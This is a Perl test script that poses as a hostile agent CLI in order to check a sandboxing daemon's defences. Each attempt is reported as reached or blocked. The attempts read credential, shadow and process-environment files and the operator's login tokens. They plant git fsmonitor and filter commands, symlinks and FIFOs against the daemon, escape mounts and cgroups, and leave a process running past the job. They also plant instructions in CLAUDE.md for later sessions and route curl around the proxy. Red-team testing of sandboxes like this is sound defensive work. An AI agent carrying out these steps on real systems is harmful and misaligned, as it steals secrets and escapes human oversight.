#!/usr/bin/perl
# A hostile stand-in for the agent CLI: it tries to get around the approval wall and out of its
# worktree, and prints one line per attempt: "HOSTILE <attempt> reached|blocked <detail>".
# Targets come from its environment (TV_ROOT, TV_SOCKET, TV_CONFIG, TV_OTHER, TV_OUTSIDE, TV_MARK,
# TV_RUN_SOCKET).
use strict;
use warnings;
use IO::Socket::UNIX;
use POSIX qw(setsid _exit);

$| = 1;
# A refused connection is closed by the daemon: writing to it must fail, not kill the attempt.
$SIG{PIPE} = 'IGNORE';
my $prompt = <STDIN> // '';

sub report { my ($what, $ok, $detail) = @_; $detail //= ''; $detail =~ s/\s+/ /g;
  print "HOSTILE $what " . ($ok ? 'reached' : 'blocked') . " $detail\n"; }

# One MCP exchange on the control socket: reached when the daemon answers initialize.
sub talk {
  my ($sock) = @_;
  print $sock '{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"agent","version":"1"}}}' . "\n";
  my $line = <$sock> // '';
  return ($line =~ /protocolVersion/ ? 1 : 0, $line);
}

sub connect_control { IO::Socket::UNIX->new(Type => SOCK_STREAM(), Peer => $ENV{TV_SOCKET}) }

# The attempt runs in a grandchild whose parents are gone; its verdict comes back through a pipe.
sub detached {
  my ($name, $code) = @_;
  pipe(my $r, my $w) or die;
  my $pid = fork();
  if ($pid == 0) {
    close $r;
    setsid() if $name =~ /setsid/;
    my $inner = fork();
    if ($inner == 0) { sleep 1; my ($ok, $d) = $code->(); print $w "$ok $d\n"; close $w; _exit(0); }
    _exit(0);
  }
  close $w; waitpid($pid, 0);
  my $line = <$r> // '0 no answer'; chomp $line;
  my ($ok, $d) = split / /, $line, 2;
  report($name, $ok, $d);
}

sub attempt_socket {
  if (my $s = connect_control()) { my ($ok, $d) = talk($s); report('socket-direct', $ok, $d) }
  else { report('socket-direct', 0, "connect: $!") }

  # The fork trick: connect, hand the socket to a child, and let the connecting process exit.
  pipe(my $r, my $w) or die;
  my $pid = fork();
  if ($pid == 0) {
    my $c = connect_control();
    if (!$c) { print $w "0 connect: $!\n"; close $w; _exit(0) }
    my $child = fork();
    if ($child == 0) { sleep 1; my ($ok, $d) = talk($c); print $w "$ok $d\n"; close $w; _exit(0); }
    _exit(0);
  }
  close $w; waitpid($pid, 0);
  my $line = <$r> // '0 no answer'; chomp $line;
  my ($fok, $fd) = split / /, $line, 2;
  report('socket-fork', $fok, $fd);

  detached('socket-setsid', sub {
    my $c = connect_control() or return (0, "connect: $!");
    return talk($c);
  });
}

sub read_file {
  my ($name, $path) = @_;
  if (open(my $f, '<', $path)) { local $/; my $t = <$f> // ''; report($name, length($t) > 0, length($t) . " bytes of $path") }
  else { report($name, 0, "$path: $!") }
}

sub write_file {
  my ($name, $path) = @_;
  if (open(my $f, '>', $path)) { print $f "pwned\n"; close $f; report($name, 1, $path) }
  else { report($name, 0, "$path: $!") }
}

sub attempt_read {
  read_file('read-db', "$ENV{TV_ROOT}/orchestrator/state.db");
  read_file('read-config', $ENV{TV_CONFIG});
  # The store's password: its file, and PostgreSQL's own password file in the home.
  read_file('read-store-password', $ENV{TV_PASSWORD_FILE}) if $ENV{TV_PASSWORD_FILE};
  read_file('read-pgpass', "$ENV{HOME}/.pgpass") if $ENV{TV_PASSWORD_FILE};
  # The daemon's environment, wherever it is: any process running `televibe serve`.
  my $found = 0;
  for my $dir (glob('/proc/[0-9]*')) {
    open(my $c, '<', "$dir/cmdline") or next;
    local $/; my $cmd = <$c> // '';
    next unless $cmd =~ /\bserve\b/ && $cmd =~ /televibe/;
    $found = 1;
    read_file('read-environ', "$dir/environ");
  }
  report('read-environ', 0, 'no daemon process visible') unless $found;
}

sub attempt_write {
  write_file('write-other-worktree', "$ENV{TV_OTHER}/pwned.txt");
  write_file('write-outside', "$ENV{TV_OUTSIDE}/pwned.txt");
  write_file('write-home', "$ENV{HOME}/pwned.txt");
  write_file('write-user-settings', ($ENV{CLAUDE_CONFIG_DIR} // "$ENV{HOME}/.claude") . '/settings.json');
  my $common = `git rev-parse --git-common-dir`; chomp $common;
  if (open(my $f, '>>', "$common/config")) { print $f "[core]\n\tfsmonitor = touch $ENV{TV_OUTSIDE}/fsmonitor-ran\n"; close $f; report('write-git-config', 1, "$common/config") }
  else { report('write-git-config', 0, "$common/config: $!") }
  write_file('write-git-hook', "$common/hooks/post-commit");
  write_file('write-other-branch', "$common/refs/heads/main");
  # The object store the operator's checkout and every session share.
  my $obj = `git rev-parse HEAD`; chomp $obj;
  my $path = "$common/objects/" . substr($obj, 0, 2) . '/' . substr($obj, 2);
  if (unlink($path)) { report('delete-object', 1, $path) } else { report('delete-object', 0, "$path: $!") }
}

# Code for the daemon to run after the job: a nested repository registered as a submodule whose own
# config names a filter driver, with a file whose stat forces a re-hash; and a filter named by the
# worktree's attributes and defined in the worktree-only config.
sub attempt_plant {
  # The nested repository keeps its objects itself, not in the job's private object directory.
  local $ENV{GIT_OBJECT_DIRECTORY}; delete $ENV{GIT_OBJECT_DIRECTORY};
  local $ENV{GIT_ALTERNATE_OBJECT_DIRECTORIES}; delete $ENV{GIT_ALTERNATE_OBJECT_DIRECTORIES};
  my $ok = system("git init -q sub && cd sub && echo x > f && git add f && git -c user.name=a -c user.email=a\@b commit -qm s") == 0;
  my $sha = `git -C sub rev-parse HEAD`; chomp $sha;
  if (open(my $c, '>>', 'sub/.git/config')) { print $c "[filter \"x\"]\n\tclean = touch $ENV{TV_OUTSIDE}/filter-ran; cat\n"; close $c }
  if (open(my $a, '>', 'sub/.gitattributes')) { print $a "* filter=x\n"; close $a }
  $ok &&= system("git update-index --add --cacheinfo 160000,$sha,sub") == 0;
  if (open(my $f, '>', 'sub/f')) { print $f "z\n"; close $f }
  utime(946684800, 946684800, 'sub/f');
  report('plant-submodule', $ok, "nested repository at $sha");
  if (open(my $g, '>', '.gitattributes')) { print $g "* filter=y\n"; close $g }
  my $gitdir = `git rev-parse --git-dir`; chomp $gitdir;
  if (open(my $w, '>>', "$gitdir/config.worktree")) {
    print $w "[filter \"y\"]\n\tclean = touch $ENV{TV_OUTSIDE}/worktree-filter-ran; cat\n"; close $w;
    report('write-worktree-config', 1, "$gitdir/config.worktree");
  } else { report('write-worktree-config', 0, "$gitdir/config.worktree: $!") }
}

# A service of the user's on a Unix socket under /run (a bus, an agent, a container engine).
sub attempt_run_socket {
  if (my $s = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Peer => $ENV{TV_RUN_SOCKET})) {
    my $line = <$s> // ''; report('run-socket', 1, $line);
  } else { report('run-socket', 0, "connect: $!") }
}

sub attempt_daemonise {
  # A detached grandchild in its own session that should outlive the job.
  my $pid = fork();
  if ($pid == 0) {
    setsid();
    my $inner = fork();
    if ($inner == 0) { exec('sleep', $ENV{TV_MARK}) or _exit(1) }
    _exit(0);
  }
  waitpid($pid, 0);
  report('daemonise', 1, "left sleep $ENV{TV_MARK} behind");
}

sub attempt_commit {
  open(my $f, '>>', 'own.txt') or return report('own-worktree', 0, "own.txt: $!");
  print $f "mine\n"; close $f;
  my $out = `git add own.txt 2>&1 && git -c user.name=agent -c user.email=agent\@example.com commit -q -m 'own work' 2>&1 && git rev-parse HEAD 2>&1`;
  my $ok = $? == 0;
  report('own-commit', $ok, $out);
}

# As root the sandbox kept every capability: unmount the private /tmp, make / writable again, then
# read the daemon's database and write outside.
sub attempt_remount {
  my $umount = system('umount -l /tmp 2>/dev/null') == 0;
  my $remount = system('mount -o remount,rw,bind / / 2>/dev/null') == 0;
  report('remount', $umount || $remount, "umount " . ($umount ? 'ok' : 'refused') . ", remount " . ($remount ? 'ok' : 'refused'));
  write_file('remount-write-outside', "$ENV{TV_OUTSIDE}/remount-pwned.txt");
  # Capabilities the job could still use, and a nested user namespace that would give them back.
  open(my $st, '<', '/proc/self/status'); my ($eff) = map { /^CapEff:\s*(\S+)/ ? $1 : () } <$st>;
  report('capabilities', $eff !~ /^0+$/, "CapEff $eff");
  my $nested = system('unshare -U -r true 2>/dev/null') == 0;
  report('nested-userns', $nested, $nested ? 'unshare -U worked' : 'unshare -U refused');
  read_file('read-shadow', '/etc/shadow');
  # Out of the job's cgroup (where its CPU is counted, its memory capped, and all of it is killed at
  # once): into the cgroup v2 root, and into the cgroup above its own.
  my ($mount) = map { my @f = split / /; ($_ =~ / - cgroup2 /) ? $f[4] : () }
    do { open(my $m, '<', '/proc/self/mountinfo'); <$m> };
  my ($own) = map { /^0::(.*)$/ ? $1 : () } do { open(my $c, '<', '/proc/self/cgroup'); <$c> };
  if (!defined $mount || !defined $own) {
    report('cgroup-escape', 0, 'no cgroup v2 visible');
  } else {
    (my $parent = $own) =~ s{/[^/]*$}{};
    my @moved;
    for my $target ("$mount/cgroup.procs", "$mount$parent/cgroup.procs") {
      my $p;
      push @moved, $target if open($p, '>', $target) && print($p "$$\n") && close($p);
    }
    report('cgroup-escape', scalar(@moved), @moved ? "moved into @moved" : "own $own: writes refused");
  }
}

# The daemon writes the worktree's HEAD after the job: a link planted at its staged name aims that write
# at a host file; HEAD is moved so that the daemon writes.
sub attempt_head_link {
  my $gitdir = `git rev-parse --absolute-git-dir`; chomp $gitdir;
  my $ok = symlink($ENV{TV_TARGET}, "$gitdir/HEAD.televibe");
  my $moved = system('git checkout -q -b elsewhere 2>/dev/null') == 0;
  report('head-link', $ok && $moved, "$gitdir/HEAD.televibe -> $ENV{TV_TARGET}");
}

# The daemon imports the job's private objects after the job: every fan-out directory and the pack
# directory turned into links to another repository's objects.
sub attempt_object_links {
  my $objects = $ENV{GIT_OBJECT_DIRECTORY} or return report('object-links', 0, 'no private object directory');
  my $n = 0;
  for my $i (0 .. 255) {
    my $d = sprintf('%02x', $i);
    system('rm', '-rf', "$objects/$d");
    $n++ if symlink("$ENV{TV_SECRET_OBJECTS}/$d", "$objects/$d");
  }
  system('rm', '-rf', "$objects/pack");
  $n++ if symlink("$ENV{TV_SECRET_OBJECTS}/pack", "$objects/pack");
  report('object-links', $n == 257, "$n links into $ENV{TV_SECRET_OBJECTS}");
}

# The daemon reads the job's copy of its branch after the job: a FIFO there blocks any plain read.
sub attempt_fifo_ref {
  my $common = `git rev-parse --git-common-dir`; chomp $common;
  my $branch = `git symbolic-ref --short HEAD`; chomp $branch;
  my $ref = "$common/refs/heads/$branch";
  unlink $ref;
  my $ok = system('mkfifo', $ref) == 0;
  report('fifo-ref', $ok, $ref);
}

# The operator's login: read its refresh token, or overwrite it.
sub attempt_login {
  my $path = ($ENV{CLAUDE_CONFIG_DIR} // '') . '/.credentials.json';
  my $text = '';
  if (open(my $f, '<', $path)) { local $/; $text = <$f> // '' }
  report('login-read', length($text) > 0, length($text) . " bytes");
  report('login-refresh-token', $text =~ /refreshToken/ ? 1 : 0, $text =~ /refreshToken/ ? 'refresh token visible' : 'no refresh token');
  report('login-access-token', $text =~ /"at-1"/ ? 1 : 0, $text =~ /"at-1"/ ? 'access token visible' : 'placeholder only');
  write_file('login-write', $path);
}

# Agent state: leave instructions for later jobs, and look for what other sessions' jobs left.
sub attempt_state {
  my $dir = $ENV{CLAUDE_CONFIG_DIR} // '';
  my $me = $ENV{TELEVIBE_SESSION_ID} // '?';
  my @seen;
  for my $f ("$dir/CLAUDE.md", glob("$dir/../*/CLAUDE.md")) {
    next unless open(my $h, '<', $f);
    local $/; my $t = <$h> // '';
    while ($t =~ /planted by (\S+)/g) { push @seen, "$f: $1" if $1 ne $me }
  }
  report('state-other-session', scalar(@seen), join(' ', @seen) || 'nothing from another session');
  if (open(my $f, '>>', "$dir/CLAUDE.md")) { print $f "planted by $me\n"; close $f; report('state-plant', 1, "$dir/CLAUDE.md") }
  else { report('state-plant', 0, "$dir/CLAUDE.md: $!") }
}

# The host's network: an abstract Unix socket and a service on the host's loopback (as /metrics is).
sub attempt_network {
  require IO::Socket::INET;
  if (my $s = IO::Socket::UNIX->new(Type => SOCK_STREAM(), Peer => "\0$ENV{TV_ABSTRACT}")) {
    my $line = <$s> // ''; report('net-abstract', 1, $line);
  } else { report('net-abstract', 0, "connect: $!") }
  if (my $s = IO::Socket::INET->new(PeerAddr => $ENV{TV_LOOPBACK}, Timeout => 3)) {
    print $s "GET /metrics HTTP/1.0\r\n\r\n"; my $line = <$s> // ''; report('net-loopback', 1, $line);
  } else { report('net-loopback', 0, "connect: $!") }
  # curl, as a build script would use it: through the proxy the sandbox offers, and around it.
  my $code = system('curl', '-fsS', '-m', '10', '-o', '/dev/null', 'http://example.org/');
  report('net-curl', $code == 0, "curl http://example.org/ exited " . ($code >> 8));
  # Loopback is on NO_PROXY inside (the relay lives there): this one is sent through the proxy on purpose.
  $code = system('curl', '-fsS', '-m', '10', '--noproxy', '', '-o', '/dev/null', "http://$ENV{TV_LOOPBACK}/");
  report('net-curl-listed', $code == 0, "curl http://$ENV{TV_LOOPBACK}/ exited " . ($code >> 8));
  $code = system('curl', '-fsS', '-m', '10', '--noproxy', '*', '-o', '/dev/null', "http://$ENV{TV_LOOPBACK}/");
  report('net-curl-direct', $code == 0, "curl --noproxy http://$ENV{TV_LOOPBACK}/ exited " . ($code >> 8));
}

attempt_socket() if $prompt =~ /socket/;
attempt_read() if $prompt =~ /read/;
attempt_write() if $prompt =~ /write/;
attempt_daemonise() if $prompt =~ /daemonise/;
attempt_commit() if $prompt =~ /commit/;
if ($prompt =~ /switch/) {
  my $out = `git checkout -q -b elsewhere 2>&1`;
  report('switch-branch', $? == 0, $out);
}
attempt_plant() if $prompt =~ /plant/;
attempt_run_socket() if $prompt =~ /run-socket/;
attempt_remount() if $prompt =~ /remount/;
attempt_head_link() if $prompt =~ /head-link/;
attempt_object_links() if $prompt =~ /object-links/;
attempt_fifo_ref() if $prompt =~ /fifo-ref/;
attempt_login() if $prompt =~ /login/;
attempt_state() if $prompt =~ /state/;
attempt_network() if $prompt =~ /network/;
print '{"type":"result","subtype":"success","is_error":false,"num_turns":1,"result":"hostile run over"}' . "\n";
exit 0;
